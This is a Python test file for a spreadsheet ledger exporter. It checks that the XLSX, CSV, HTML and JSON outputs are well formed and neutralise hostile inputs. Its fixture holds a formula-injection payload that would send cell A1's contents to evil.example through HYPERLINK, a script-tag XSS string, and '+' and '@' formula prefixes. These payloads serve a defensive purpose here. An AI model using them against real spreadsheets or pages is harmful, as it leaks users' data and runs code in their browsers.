"""The ledger as its readers meet it: in a spreadsheet program, as CSV, JSON and HTML."""

from __future__ import annotations

import base64
import csv
import hashlib
import html
import io
import json
import re
import zipfile
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from click.testing import Result
from msgspec.structs import replace

from perfxl.excel.cell_text import bounded
from perfxl.excel.ledger import tables as ledger_tables
from perfxl.excel.ledger import workbook as excel_ledger
from perfxl.excel.xlsx import workbook
from perfxl.form.model import Indicator
from perfxl.jobs.one_file import filled
from perfxl.ledger.across import unit_key
from perfxl.ledger.columns import PROJECTS
from perfxl.ledger.ledger import Ledger
from perfxl.ledger.overview import RATES, rate_bin
from perfxl.ledger.rows import REFUSED, VERIFIED, FileRow, FormRow, row_of
from perfxl.ledger.tables import problems
from perfxl.renewal.projects import Project
from perfxl.report.report import judge_book
from tests.support import bureau, command
from tests.support.forms import source
from tests.support.lint_xlsx import faults
from tests.support.office import Office, ooxml_errors, png

pytestmark = pytest.mark.slow

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
SCRIPT = "<script>alert(1)</script>"


def run(*arguments: object) -> Result:
    return command.run("batch", *arguments)


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The three real forms, some made ones, hostile texts, awkward file names, a file that is none."""
    made = tmp_path_factory.mktemp("ledger") / "报送"
    for number in (1, 2, 3):
        path = made / "虹桥" / f"hongqiao-2023-{number}.xlsx"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(filled(source(path.stem)))
    form = bureau.clean(0)
    for name, spoiled in {
        "空 格 50%/#1 [终稿].xlsx": form,
        "hostile.xlsx": replace(form, project=EVIL, unit=f"+{SCRIPT}", department="@SUM(1)"),
        "& 'quoted' {x}.xlsx": bureau.row(1, reason=None)(bureau.clean(2)),
        "深/更深/最深.xlsx": bureau.clean(3),
    }.items():
        (made / name).parent.mkdir(parents=True, exist_ok=True)
        (made / name).write_bytes(bureau.file(spoiled))
    (made / "=cmd.txt").write_text("=1+1")
    return made


@pytest.fixture(scope="module")
def ledger(folder: Path) -> Path:
    output = folder.parent / "台账.xlsx"
    assert run(folder, "-o", output, "--split-by", "unit").exit_code == 2
    return output


def test_the_workbook_is_sound(ledger: Path) -> None:
    for path in (ledger, *(ledger.parent / "台账-退回").glob("*.xlsx")):
        assert not [fault for fault in faults(path) if EVIL[:20] not in fault]
    assert not ooxml_errors(ledger)
    assert [s.name for s in workbook.read(ledger).sheets] == [
        "总览", "项目", "问题", "退回清单", "单位", "部分核验", "未能读取",
    ]  # fmt: skip


def test_no_text_is_a_formula(ledger: Path) -> None:
    for path in (ledger, *(ledger.parent / "台账-退回").glob("*.xlsx")):
        book = workbook.read(path)
        assert not [c for s in book.sheets for c in s.cells.values() if c.formula is not None]
    texts = {c.value for s in workbook.read(ledger).sheets for c in s.cells.values()}
    assert EVIL in texts


def test_opened_in_libreoffice_and_saved_again(
    ledger: Path, office: Office, tmp_path: Path
) -> None:
    """Values, links, filters, frozen heads and charts are still there, and it prints."""
    out = office.recalculate(ledger, tmp_path / "again.xlsx")
    before, after = office.values(ledger, recalculate=False), office.values(out)
    assert before == after and len(before["项目"]) > 100
    again = zipfile.ZipFile(out)
    charts = [name for name in again.namelist() if re.fullmatch(r"xl/charts/chart\d+\.xml", name)]
    assert len(charts) == 3
    drawn = [again.read(name).decode() for name in charts]
    assert sum(text.count("<c:pt ") for text in drawn) > 30  # every chart has its data
    sheets = [again.read(f"xl/worksheets/sheet{n}.xml").decode() for n in range(1, 6)]
    for text in sheets[1:]:
        assert "<autoFilter" in text and 'state="frozen"' in text
    assert "conditionalFormatting" in sheets[1]
    assert list(links(out, 2)) and len(list(links(out, 2))) == len(list(links(ledger, 2))) == 7
    pages = png(office.pdf(ledger, tmp_path / "台账.pdf"), dpi=30)
    assert 5 <= len(pages) <= 12
    fonts = {font for path in [ledger] for font in re.findall(
        r'<name val="([^"]+)"', zipfile.ZipFile(path).read("xl/styles.xml").decode())}  # fmt: skip
    assert {"宋体", "微软雅黑"} <= fonts


def links(path: Path, sheet: int) -> Iterator[str]:
    with zipfile.ZipFile(path) as package:
        part = package.read(f"xl/worksheets/_rels/sheet{sheet}.xml.rels").decode()
    for target in re.findall(r'Target="([^"]+)" TargetMode="External"', part):
        yield html.unescape(target)


def test_a_page_says_of_what_it_is_and_cuts_no_name(ledger: Path) -> None:
    """On paper: the table's name above, folder and day below, file names on several lines."""
    book = openpyxl.load_workbook(ledger)
    for sheet in book.worksheets[1:]:
        assert str(sheet.oddHeader.center.text).endswith(f"绩效自评核验台账 · {sheet.title}")
        assert "核验日期" in str(sheet.oddFooter.left.text)
        area = sheet.print_area.replace("$", "").rpartition("!")[2]
        head, first, *_ = sheet[area]
        for column, cell in enumerate(first):
            if "文件" in str(head[column].value) and first[0].value != "（无）":
                assert cell.alignment.wrap_text, sheet.title


def test_every_link_opens_its_file(ledger: Path, folder: Path) -> None:
    from urllib.parse import unquote

    targets = [ledger.parent / unquote(link) for link in links(ledger, 2)]
    assert {path.resolve() for path in targets} == {p.resolve() for p in folder.rglob("*.xlsx")}
    for target in links(ledger, 2):
        assert "\\" not in target and not set(target) & set(' #[]{}"')
    for path in (ledger.parent / "台账-退回").glob(
        "*.xlsx"
    ):  # whose reader has the files elsewhere
        with zipfile.ZipFile(path) as package:
            assert "xl/worksheets/_rels/sheet1.xml.rels" not in package.namelist()


def test_the_charts_carry_their_figures(ledger: Path) -> None:
    """A viewer that does not calculate draws them too."""
    with zipfile.ZipFile(ledger) as package:
        charts = [package.read(f"xl/charts/chart{n}.xml").decode() for n in (1, 2, 3)]
    assert all("<c:numCache>" in text and "<c:strCache>" in text for text in charts)
    assert "优" in charts[0] and "95–100" in charts[1] and "D-1" in charts[2]


def test_csv_holds_no_formula(folder: Path, tmp_path: Path) -> None:
    output = tmp_path / "台账.csv"
    assert run(folder, "-o", output).exit_code == 2
    made = sorted(path.name for path in tmp_path.glob("*.csv"))
    assert made == [
        "台账-单位.csv",
        "台账-未能读取.csv",
        "台账-退回清单.csv",
        "台账-部分核验.csv",
        "台账-问题.csv",
        "台账.csv",
    ]
    for path in tmp_path.glob("*.csv"):
        text = path.read_bytes().decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not cell.startswith(("=", "+", "@")) or re.fullmatch(
                    r"[+-]?\d+(\.\d+)?", cell
                )
    rows = list(csv.DictReader(io.StringIO(output.read_text("utf-8-sig"))))
    assert len(rows) == 7 and {row["填报总分"] for row in rows} >= {"93.92", "92.60", "91.60"}


def test_html_holds_no_markup_of_others(folder: Path, tmp_path: Path) -> None:
    output = tmp_path / "台账.html"
    assert run(folder, "-o", output).exit_code == 2
    text = output.read_text("utf-8")
    assert SCRIPT not in text and html.escape(SCRIPT) in text
    assert "93.92" in text and "default-src 'none'" in text
    (script,) = re.findall("<script>(.*?)</script>", text, re.DOTALL)
    hashed = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    assert f"script-src 'sha256-{hashed}'" in text and text.count("<script") == 1
    assert re.search(r'href="[^"]*报送/虹桥/hongqiao-2023-1\.xlsx"', text)


def test_json_is_json(folder: Path, ledger: Path, tmp_path: Path) -> None:
    output = tmp_path / "台账.json"
    assert run(folder, "-o", output).exit_code == 2
    data = json.loads(output.read_text("utf-8"), parse_float=Decimal)
    seen = data["overview"]
    assert seen["found"] == seen["verified"] + seen["refused"] + seen["skipped"] == 8
    assert [form["project"] for form in data["projects"]].count(EVIL) == 1
    by_file = {form["file"]: form for form in data["projects"]}
    assert by_file["虹桥/hongqiao-2023-1.xlsx"]["score"] == Decimal("93.92")
    assert sum(form["missing"] for form in data["projects"]) >= 10  # of the three real ones
    assert seen["findings"]["D-1"] == sum(p["code"] == "D-1" for p in data["problems"])


def test_the_three_real_forms_come_out_as_the_rules_say(folder: Path, tmp_path: Path) -> None:
    output = tmp_path / "台账.json"
    run(folder / "虹桥", "-o", output)
    data = json.loads(output.read_text("utf-8"), parse_float=Decimal)
    told = {
        f["file"][-6]: (f["score"], f["reference"], f["grade_filed"], f["missing"])
        for f in data["projects"]
    }
    assert {k: v[0] for k, v in told.items()} == {
        "1": Decimal("93.92"), "2": Decimal("92.60"), "3": Decimal("91.60"),
    }  # fmt: skip
    assert [v[3] for v in told.values()] == [5, 3, 2]
    assert told["1"][1] == "99.92" and told["2"][1] == "98.60"
    assert data["overview"]["grades_computed"] == {"优": 3}


# Pure --------------------------------------------------------------------------------------------


def form_row(number: int) -> FormRow:
    (report,) = judge_book(workbook.read(bureau.file(bureau.clean(number))))
    return row_of(report)


def of(*forms: FormRow, listed: tuple[Project, ...] = ()) -> Ledger:
    rows = [FileRow(f"{n}.xlsx", VERIFIED, (form,)) for n, form in enumerate(forms)]
    by_name = {row.name: row for row in rows}
    return Ledger(lambda: iter(rows), lambda names: (by_name[n] for n in names), len(rows), listed)


def said(ledger: Ledger) -> list[tuple[str, str]]:
    return [(str(row[1]), str(row[6])) for row in problems(ledger)]


@pytest.fixture(scope="module")
def two() -> tuple[FormRow, FormRow]:
    return form_row(0), form_row(1)


def test_the_same_project_twice(two: tuple[FormRow, FormRow]) -> None:
    first, second = two
    same = second._replace(project=first.project.replace("第", " 第"), unit=first.unit, prose=())
    assert [code for code, _ in said(of(first, same))] == ["X-1", "X-1"]
    assert "1.xlsx" in said(of(first, same))[0][1]
    # another unit's project of the same name, and another year's, are others
    assert said(of(first, same._replace(unit="别的单位"))) == []
    assert said(of(first, same._replace(year=2024))) == []
    assert said(of(first, first._replace(project="", prose=()))) == []


def test_money_against_a_project_list(two: tuple[FormRow, FormRow]) -> None:
    first, second = two
    assert first.initial == 100 and second.initial == 101
    listed = (
        Project(first.project, initial=Decimal(1_000_000), money_unit="元"),
        Project(second.project, initial=Decimal("101.50")),
        Project("没有报的项目", unit="某所", initial=Decimal(7)),
    )
    ledger = of(first, second, listed=listed)
    assert [code for code, _ in said(ledger)] == ["X-4", "X-4"]
    assert "填报 101.00 万元，清单为 101.50 万元" in said(ledger)[0][1]
    assert ledger.overview.absent == 1 and ledger.overview.listed_initial == Decimal("208.5")
    assert "清单中没有" in said(of(first, listed=listed[1:2]))[0][1]


@pytest.mark.parametrize(
    ("one", "other", "same"),
    [
        ("虹桥镇人民政府", "虹桥镇 人民政府", True),
        ("虹桥镇人民政府(本级)", "虹桥镇人民政府（本级）", True),
        ("219001-虹桥镇人民政府", "虹桥镇人民政府", True),
        ("第一中学", "第二中学", False),
        ("东城区教育局", "西城区教育局", False),
        ("101中学", "102中学", False),
    ],
)
def test_spellings_of_one_unit(one: str, other: str, same: bool) -> None:
    assert (unit_key(one) == unit_key(other)) is same


def test_the_rarer_spelling_is_told(two: tuple[FormRow, FormRow]) -> None:
    first, _ = two
    names = ["虹桥镇人民政府"] * 3 + ["虹桥镇 人民政府", "上海市虹桥镇人民政府"]
    forms = [
        first._replace(unit=unit, project=f"项目{n}", prose=()) for n, unit in enumerate(names)
    ]
    found = said(of(*forms))
    assert [code for code, _ in found] == ["X-5", "X-5"]
    assert "“虹桥镇 人民政府”，多数写作“虹桥镇人民政府”" in found[0][1]
    assert "上海市虹桥镇人民政府" in found[1][1]


def test_of_two_spellings_that_are_as_frequent_the_one_without_a_code_is_used(
    two: tuple[FormRow, FormRow],
) -> None:
    """A letter goes to it; and that most write so is not said, as it is not so."""
    first, _ = two
    names = ["219-江川路街道办事处", "江川路街道办事处"]
    forms = [
        first._replace(unit=unit, project=f"项目{n}", prose=()) for n, unit in enumerate(names)
    ]
    made = of(*forms)
    assert said(made) == [
        ("X-5", "同一单位的名称写法不一：“219-江川路街道办事处”，也有写作“江川路街道办事处”")
    ]
    assert set(made.progress.units) == {"江川路街道办事处"}


def test_the_forms_of_another_year_are_named(two: tuple[FormRow, FormRow]) -> None:
    """A tenth of all at the most: half of them is no slip."""
    first, _ = two
    forms = [first._replace(project=f"项目{n}", prose=()) for n in range(20)]
    last = forms[19]._replace(year=2024)
    made = of(*forms[:18], last, forms[18])
    assert list(made.across.other_years()) == ["2024 年度 1 张（18.xlsx）"]
    assert not list(
        of(*forms[:5], *(form._replace(year=2024) for form in forms[5:10])).across.other_years()
    )


def test_two_towns_with_schools_of_one_name_are_two(two: tuple[FormRow, FormRow]) -> None:
    first, _ = two
    names = ("甲市第一中学", "乙市第一中学", "第一中学")
    forms = [first._replace(unit=u, project=f"项目{n}", prose=()) for n, u in enumerate(names)]
    assert said(of(*forms)) == []


def test_the_histogram_leaves_no_rate_out() -> None:
    bins = [rate_bin(Decimal(n) / 10) for n in range(-10, 1200)]
    assert sorted(set(bins), key=RATES.index) == list(RATES[1:])
    assert bins == sorted(bins, key=RATES.index)


def test_amounts_in_yuan_are_told_in_wan(tmp_path: Path) -> None:
    form = replace(bureau.clean(0), money_unit="元")
    (report,) = judge_book(workbook.read(bureau.file(form)))
    assert row_of(report).initial == Decimal("0.01")


def test_the_same_rows_give_the_same_bytes(two: tuple[FormRow, FormRow]) -> None:
    made = [excel_ledger.workbook(of(*two), "报送/") for _ in range(2)]
    assert made[0] == made[1]


def test_texts_come_back_as_they_were(two: tuple[FormRow, FormRow], tmp_path: Path) -> None:
    """Whatever looks like markup, like an escape or like nothing at all; the sheets are sound."""
    texts = ["<r><t>x</t></r>", "]]> & &amp; \"'", "_x0041_x0042_", " 空 ", "\u3000全角", "a\tb\nc",
             "\x01\x1f\ufffe", "=1+1", "1e999"]  # fmt: skip
    many = [two[0]._replace(project=text, unit="", prose=()) for text in texts]
    path = tmp_path / "台账.xlsx"
    path.write_bytes(excel_ledger.workbook(of(*many)))
    assert not [fault for fault in faults(path) if "=1+1" not in fault]
    sheet = workbook.read(path).sheets[1]
    assert [sheet.value(row, 2) for row in range(2, len(texts) + 2)] == texts
    assert bounded("😀" * 20_000) == "😀" * 16_383 + "…"


def test_more_rows_than_a_sheet_has(
    two: tuple[FormRow, FormRow], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The sheet says so and where the rest is; nothing is cut in silence."""
    monkeypatch.setattr(ledger_tables, "MOST", 2)
    path = tmp_path / "台账.xlsx"
    path.write_bytes(excel_ledger.workbook(of(*two * 3), rest="台账-项目.parquet"))
    assert not faults(path)
    sheet = workbook.read(path).sheets[1]
    told = str(sheet.value(1, 1))
    assert "列出 2 行，共 6 行" in told and "台账-项目.parquet" in told
    assert sheet.value(3, 2) == two[0].project and max(row for row, _ in sheet.cells) == 4


@pytest.mark.parametrize("kind", ["parquet", "csv"])
def test_what_does_not_fit_stands_in_an_open_table(
    kind: str, folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from perfxl.jobs.folder import parquet

    monkeypatch.setattr(ledger_tables, "MOST", 3)
    monkeypatch.setattr(parquet, "installed", lambda: kind == "parquet")
    output = tmp_path / "台账.xlsx"
    assert run(folder, "-o", output).exit_code == 2
    told = str(workbook.read(output).sheets[1].value(1, 1))
    assert f"台账-项目.{kind}" in told and (tmp_path / f"台账-项目.{kind}").is_file()
    if kind == "csv":
        text = (tmp_path / "台账-项目.csv").read_text("utf-8-sig")
        assert len(list(csv.DictReader(io.StringIO(text)))) == 7
    else:
        from pyarrow.parquet import read_table

        assert read_table(tmp_path / "台账-项目.parquet").num_rows == 7


def test_names_that_cannot_be_links_are_text(two: tuple[FormRow, FormRow], tmp_path: Path) -> None:
    rows = [
        FileRow("长" * 1600 + ".xlsx", VERIFIED, (two[0],)),
        FileRow("\x01坏\ud800.xlsx", REFUSED),
    ]
    ledger = Ledger(lambda: iter(rows), lambda _: iter(rows), 2)
    path = tmp_path / "台账.xlsx"
    path.write_bytes(excel_ledger.workbook(ledger))
    assert not faults(path)
    at = 1 + [column.key for column in PROJECTS].index("file")
    assert workbook.read(path).sheets[1].value(2, at) == rows[0].name
    unread = next(s for s in workbook.read(path).sheets if s.name == "未能读取")
    assert unread.value(2, 2) == "\x01坏?.xlsx"


def test_indicator_rows_against_the_list(two: tuple[FormRow, FormRow]) -> None:
    """Rows, targets and weights; spaces and widths aside. A list without indicators says nothing."""
    first, _ = two
    rows = (
        Indicator("产出指标", "数量指标", "更新设施数", ">= 12处", weight=Decimal(10)),
        Indicator("产出指标", "质量指标", "验收 合格率", "≥98%", weight=Decimal(15)),
        Indicator("产出指标", "时效指标", "按时完工率", "≥90%", weight=Decimal(9)),
        Indicator("产出指标", "数量指标", "没有做的", "≥1处"),
    )
    listed = Project(first.project, unit=first.unit, indicators=rows)
    told = [words for code, words in said(of(first, listed=(listed,))) if code == "X-4"]
    assert len(told) == 4
    assert "清单中的指标表上没有：没有做的" in told[0]
    assert "表上的指标清单中没有：" in told[1] and "更新设施数" not in told[1]
    assert "“验收 合格率”指标值填报“≥95%”，清单为“≥98%”" in told[2]
    assert "“按时完工率”分值填报 8" in told[3] and "清单为 9" in told[3]
    bare = Project(first.project, unit=first.unit)
    assert said(of(first, listed=(bare,))) == []


def test_a_reason_that_one_project_filed_twice_is_not_pasted(two: tuple[FormRow, FormRow]) -> None:
    first, _ = two
    reason = [prose for prose in first.prose if prose.kind == "reason"]
    same = first._replace(prose=tuple(reason))
    assert {code for code, _ in said(of(same, same, same))} == {"X-1"}
    others = [same._replace(project=f"项目{n}") for n in range(3)]
    assert [code for code, _ in said(of(*others))] == ["X-2"] * 3
